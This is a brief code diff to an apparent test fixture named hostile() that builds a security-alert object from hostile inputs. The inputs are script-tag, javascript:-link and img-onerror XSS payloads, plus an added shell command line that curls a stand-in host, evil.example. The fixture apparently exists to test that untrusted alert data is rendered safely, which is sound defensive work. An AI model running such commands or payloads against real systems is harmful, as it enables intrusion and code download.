@@ -84,6 +84,8 @@ function hostile(): AlertDetail {
     disposition: 'insufficient_data',
     message: '<script>document.title="owned"</script> [click](javascript:alert(1)) http://evil.example/x',
     raw: '{"user_agent":"<img src=x onerror=alert(1)>"}',
+    lineage: ['web-01|4242|2026-03-14T02:59:58Z', 'web-01|811|2026-03-01T00:00:00Z'],
+    details: { 'http.status': '200', 'process.command_line': 'sh -c "curl http://evil.example/x"' },
   };
 }
 
